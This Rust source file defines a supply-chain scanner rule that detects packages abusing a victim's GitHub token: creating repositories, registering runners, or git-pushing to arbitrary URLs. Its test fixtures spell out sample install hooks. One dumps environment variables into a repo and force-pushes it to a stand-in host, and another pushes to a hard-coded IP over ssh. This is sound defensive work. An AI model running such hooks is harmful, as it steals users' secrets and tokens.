//! Rule `github-repo-abuse`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, find_text, is_doc_path};

crate::declare_rule! {
    /// Uses the victim's GitHub token against GitHub itself: creating repositories
    /// (`POST /user/repos`, `repos.createForAuthenticatedUser`) to dump stolen data, registering
    /// self-hosted runners, pushing with a token embedded in the remote URL. Beyond GitHub, a
    /// `git push` to a remote given as a URL (on the command line or in an argument list, or
    /// added with `git remote add`/`set-url`) ships a repository the code just built to a
    /// server of its choosing: at install time that is exfiltration by git (`critical`: an install step has no release to
    /// push); elsewhere `medium` with credentials in the URL, `low` without (deploy tools push
    /// pages to the user's own remote).
    id: "github-repo-abuse",
    category: Worm,
    severity: High,
    capability: Some(crate::model::Capability::Network),
    title: "creates repositories or runners with the user's GitHub token",
    incident: "Nx s1ngularity and Shai-Hulud (2025) created public repos holding stolen secrets; Shai-Hulud 2 registered runners",
    case_file: "index.js",
    flag: ["await octokit.rest.repos.createForAuthenticatedUser({ name: 'x', private: false })",
           "fetch('https://api.github.com/user/repos', { method: 'POST', headers: { authorization: 'token ' + t } })",
           "execSync(`git push https://x-access-token:${tok}@github.com/${r}.git`)",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"prepare\":\"sh s.sh\"}}\n=== s.sh\ncd \"$(mktemp -d)\" && git init -q && env > e && git add -A && git commit -qm x\ngit push -q --force \"https://u:t@git.example.net/c.git\" HEAD:main &\n",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nconst { execSync } = require('child_process');\nexecSync('git remote add bk ssh://git@203.0.113.9:2222/r.git && git push bk --all', { cwd: tmp });\n"],
    pass: ["fetch('https://api.github.com/repos/' + r + '/releases')", "// createForAuthenticatedUser is documented",
           // a deploy tool pushing the built site to the user's own remote, at no install step
           "execSync(`git push ${remote} gh-pages`, { cwd: dir }); // remote: https://host/owner/repo.git",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"prepare\":\"sh s.sh\"}}\n=== s.sh\n# push with: git push https://host/x.git\ngit config core.hooksPath .githooks\n"],
}

/// `git … push … URL` on one command line, or a remote added as a URL (`git remote add NAME
/// URL`, `set-url`) in a file that pushes. Returns the offset and the matched text.
fn git_push_to_url(text: &str) -> Option<(usize, String)> {
    const URL: &str = r#"['"`]?(?:https?|ssh|git)://"#;
    static PUSH: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(&format!(
            r#"\bgit\b[^\n;&|]{{0,160}}?\spush\s[^\n;&|]{{0,200}}?{URL}[^\s'"`]*"#
        ))
        .expect("static pattern")
    });
    static REMOTE: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(&format!(
            r#"\bgit\b[^\n;&|]{{0,160}}?\sremote\s+(?:add|set-url)\s+(?:-\S+\s+)*[\w.-]+\s+{URL}[^\s'"`]*"#
        ))
        .expect("static pattern")
    });
    if !text.contains("push") {
        return None;
    }
    let code = |m: &regex::Match| {
        let start = text[..m.start()].rfind('\n').map_or(0, |i| i + 1);
        let line = text[start..m.start()].trim_start();
        !["//", "/*", "*", "#"].iter().any(|c| line.starts_with(c))
    };
    if let Some(m) = PUSH.find_iter(text).take(16).find(code) {
        return Some((m.start(), m.as_str().to_string()));
    }
    // The argument-list form: `execFileSync('git', ['push', '-f', 'https://…'])`.
    static ARGV: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(&format!(
            r#"['"`]git['"`]\s*,\s*\[[^\]\n]{{0,80}}?['"`]push['"`]\s*,[^\]\n]{{0,200}}?{URL}[^\s'"`]*"#
        ))
        .expect("static pattern")
    });
    if let Some(m) = ARGV.find_iter(text).take(16).find(code) {
        return Some((m.start(), m.as_str().to_string()));
    }
    let pushes = crate::regex!(r"\bgit\b[^\n;&|]{0,160}?\spush\b");
    if !pushes.find_iter(text).take(16).any(|m| code(&m)) {
        return None;
    }
    REMOTE
        .find_iter(text)
        .take(16)
        .find(code)
        .map(|m| (m.start(), m.as_str().to_string()))
}

fn check(pkg: &Package, out: &mut Emitter) {
    let re = crate::regex!(
        r"createForAuthenticatedUser|/user/repos['\x22`]|actions/runners/registration-token|x-access-token:\$\{|https://\$\{[^}]+\}@github\.com|config\.(sh|cmd)\s+--url\s+https://github\.com"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let hits: Vec<_> = find_text(f, re)
            .into_iter()
            .filter(|(o, _)| {
                let o = *o as usize;
                let start = f.text[..o.min(f.text.len())]
                    .rfind('\n')
                    .map_or(0, |i| i + 1);
                let line = f.text[start..].trim_start();
                !(line.starts_with("//") || line.starts_with('*'))
            })
            .collect();
        let Some((off, m)) = hits.first().cloned() else {
            if let Some((at, m)) = git_push_to_url(crate::rules::all_text(f)) {
                let install = pkg.is_install_file(f);
                let creds = crate::regex!(r"://[^/\s@'\x22`]+@").is_match(&m);
                let sev = match (install, creds) {
                    (true, _) => Severity::Critical,
                    (false, true) => Severity::Medium,
                    (false, false) => Severity::Low,
                };
                let off = if at < f.text.len() { at as u32 } else { 0 };
                let what = if install {
                    "at install time"
                } else {
                    "from the package's code"
                };
                out.hit_sev(
                    sev,
                    pkg,
                    f,
                    off,
                    format!("pushes a git repository to a remote given as a URL {what} ({m})"),
                );
            }
            continue;
        };
        // SDKs define these endpoints in their route tables; one mention in a big bundle is not use.
        let many = hits.len() >= 2 || f.text.len() < 200_000;
        if !many {
            continue;
        }
        let sev = if pkg.is_install_file(f) {
            Severity::Critical
        } else {
            Severity::High
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            format!("uses the GitHub API to create repositories, runners or pushes ({m})"),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    fn sev(file: &str, case: &str) -> Option<Severity> {
        run(&super::RULE, file, case).first().map(|h| h.severity)
    }

    /// A push to a URL is exfiltration at install time; from library code it is a deploy
    /// tool's job unless the URL carries credentials.
    #[test]
    fn a_git_push_to_a_url_weighs_by_where_it_runs() {
        let js = "const { execSync } = require('child_process');\nexecSync('git push --mirror https://u:p@git.example.net/r.git', { cwd: d });\n";
        let install = format!(
            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":\"node i.js\"}}}}\n=== i.js\n{js}"
        );
        assert_eq!(sev("i.js", &install), Some(Severity::Critical));
        assert_eq!(sev("lib/deploy.js", js), Some(Severity::Medium));
        let plain = js.replace("u:p@", "");
        assert_eq!(sev("lib/deploy.js", &plain), Some(Severity::Low));
        // A remote added as a URL, in a file that never pushes, is a clone's setup.
        let no_push = "execSync('git remote add upstream https://git.example.net/r.git && git fetch upstream');\n";
        assert_eq!(sev("lib/sync.js", no_push), None);
        let argv = "spawnSync('git', ['push', '--force', 'https://t:x@git.example.net/r.git', 'HEAD'], { cwd: d });\n";
        assert_eq!(sev("lib/deploy.js", argv), Some(Severity::Medium));
        let argv_remote = "spawnSync('git', ['push', '--force', remote, 'HEAD'], { cwd: d }); // https://git.example.net/r.git\n";
        assert_eq!(sev("lib/deploy.js", argv_remote), None);
        let then_push = format!("{no_push}execSync('git push upstream HEAD');\n");
        assert_eq!(sev("lib/sync.js", &then_push), Some(Severity::Low));
    }
}
